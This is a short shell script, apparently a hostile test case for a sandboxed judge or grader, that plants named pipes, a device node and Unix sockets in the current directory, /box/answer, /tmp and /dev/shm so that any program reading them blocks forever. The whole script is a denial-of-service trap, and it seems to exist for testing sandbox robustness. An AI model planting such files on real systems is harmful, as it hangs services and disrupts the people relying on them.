#!/bin/sh
# attack: leaves pipes, devices and sockets, at which a reader waits for ever
for folder in . /box/answer /tmp /dev/shm; do
  mkfifo $folder/warren-attack-pipe
  mknod $folder/warren-attack-device c 1 5
  perl -e 'use Socket; socket(S, AF_UNIX, SOCK_STREAM, 0); bind(S, sockaddr_un("$ARGV[0]/warren-attack-socket"))' $folder
done 2>/dev/null
exit 1
